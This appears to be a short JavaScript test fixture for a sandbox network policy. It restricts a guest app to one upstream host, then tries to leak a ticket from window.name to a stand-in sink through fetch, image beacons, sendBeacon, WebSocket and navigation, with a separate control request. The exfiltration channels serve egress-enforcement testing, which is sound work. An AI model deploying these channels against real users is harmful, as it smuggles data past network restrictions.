//! guest = "app"
//! promise = "app-network"
//! policy = { network = { allow = ["http://{upstream}"], via = "proxy" } }
(async () => {
await fetch(`${UPSTREAM}/echo`).catch(() => {});
const ticket = window.name;
for (const send of [() => fetch(`${SINK}/t?${ticket}`), () => { new Image().src = `${SINK}/i?${ticket}`; }, () => navigator.sendBeacon(`${SINK}/b`, ticket), () => new WebSocket(SINK.replace("http", "ws")), () => { location.href = `${SINK}/n?${ticket}`; }]) {
  try { await Promise.race([send(), new Promise((done) => setTimeout(done, 200))]); } catch {}
}
end("sent");
})();
// --- control
await fetch(`${stage.sink}/control`, { mode: "no-cors" });
return "sent";
